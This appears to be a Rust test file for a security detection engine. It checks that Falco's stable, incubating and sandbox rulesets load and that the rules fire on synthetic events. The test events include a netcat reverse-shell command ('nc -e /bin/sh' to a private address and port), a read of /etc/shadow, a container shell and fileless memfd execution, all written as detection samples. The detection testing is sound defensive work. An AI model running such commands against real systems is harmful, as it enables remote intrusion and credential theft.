//! Falco's published rulesets load unchanged: how many rules of each, exactly.
//! `docs/falco-compatibility.md` lists the ones that do not, and why.

use garrison_rules::{LoadOptions, RuleSet};
use std::path::PathBuf;

fn shared() -> PathBuf {
    match std::env::var_os("GARRISON_SHARED_DATA") {
        Some(p) => PathBuf::from(p),
        None => PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data")),
    }
}

fn load(name: &str) -> RuleSet {
    let path = shared().join("falco-rules").join(name);
    assert!(
        path.exists(),
        "{} is missing: the shared test data (GARRISON_SHARED_DATA) must hold Falco's rulesets",
        path.display()
    );
    let text = std::fs::read_to_string(&path).unwrap();
    // Incubating and sandbox build on the stable file's macros and lists, as in Falco.
    let mut sources = Vec::new();
    if name != "falco_rules.yaml" {
        let stable = shared().join("falco-rules/falco_rules.yaml");
        sources.push((
            "falco_rules.yaml".to_string(),
            std::fs::read_to_string(stable).unwrap(),
        ));
    }
    sources.push((name.to_string(), text));
    RuleSet::from_sources(&sources, LoadOptions { lenient: true })
        .unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn report(name: &str, set: &RuleSet, base: usize) -> (usize, usize) {
    let loaded = set.rules().len() - base;
    let skipped: Vec<_> = set.skipped.iter().filter(|s| s.pos.file == name).collect();
    eprintln!("{name}: {loaded} loaded, {} not", skipped.len());
    for s in &skipped {
        eprintln!("  - {}: {}", s.rule, s.reason);
    }
    (loaded, skipped.len())
}

#[test]
fn stable_rules_load() {
    let set = load("falco_rules.yaml");
    let (loaded, skipped) = report("falco_rules.yaml", &set, 0);
    assert_eq!((loaded, skipped), (22, 3));
}

#[test]
fn incubating_rules_load() {
    let stable = load("falco_rules.yaml").rules().len();
    let set = load("falco-incubating_rules.yaml");
    let (loaded, skipped) = report("falco-incubating_rules.yaml", &set, stable);
    assert_eq!((loaded, skipped), (28, 3));
}

#[test]
fn sandbox_rules_load() {
    let stable = load("falco_rules.yaml").rules().len();
    let set = load("falco-sandbox_rules.yaml");
    let (loaded, skipped) = report("falco-sandbox_rules.yaml", &set, stable);
    assert_eq!((loaded, skipped), (32, 5));
}

/// Falco's own stable rules fire on Garrison's events for the behaviours they describe.
#[test]
fn stable_rules_fire_on_garrison_events() {
    use garrison_event::{EventData, EventKind, FdType, FilePath};
    use garrison_rules::samples::sample;
    use garrison_rules::Engine;
    let engine = std::sync::Arc::new(Engine::with_ruleset(
        load("falco_rules.yaml"),
        vec![],
        "node1",
    ));
    let mut det = engine.detector();
    let mut fire = |ev: &garrison_event::Event| {
        let mut out = Vec::new();
        det.process(ev, |a| out.push(a.rule));
        out
    };
    // An interactive shell in a container, started by conmon.
    let mut shell = sample(EventKind::Exec);
    shell.process.tty = 34816;
    shell.process.ancestors[0].name = "conmon".into();
    assert!(
        fire(&shell).contains(&"Terminal shell in container".to_string()),
        "{:?}",
        fire(&shell)
    );
    // /etc/shadow read by python3.
    let mut read = sample(EventKind::Open);
    read.process.comm = "python3".into();
    if let EventData::Open {
        path,
        flags,
        flag_names,
        ..
    } = &mut read.data
    {
        *path = FilePath::raw("/etc/shadow");
        *flags = 0;
        *flag_names = vec!["O_RDONLY".into()];
    }
    assert!(
        fire(&read).contains(&"Read sensitive file untrusted".to_string()),
        "{:?}",
        fire(&read)
    );
    // nc -e in a container.
    let mut nc = sample(EventKind::Exec);
    nc.process.comm = "nc".into();
    nc.process.args = vec![
        "nc".into(),
        "-e".into(),
        "/bin/sh".into(),
        "10.0.0.9".into(),
        "4444".into(),
    ];
    assert!(
        fire(&nc).contains(&"Netcat Remote Code Execution in Container".to_string()),
        "{:?}",
        fire(&nc)
    );
    // Fileless execution.
    let mut memfd = sample(EventKind::Exec);
    if let EventData::Exec {
        exe_memfd, stdio, ..
    } = &mut memfd.data
    {
        *exe_memfd = true;
        *stdio = [FdType::CharDevice; 3];
    }
    assert!(
        fire(&memfd).contains(&"Fileless execution via memfd_create".to_string()),
        "{:?}",
        fire(&memfd)
    );
}

/// Prints the compatibility report (`cargo test -p garrison-rules --test falco report -- --nocapture`).
#[test]
fn report_never_firing_rules() {
    for name in [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ] {
        let set = load(name);
        for w in set
            .warnings
            .iter()
            .filter(|w| w.contains("never fires") && w.starts_with(name))
        {
            eprintln!("{w}");
        }
    }
}
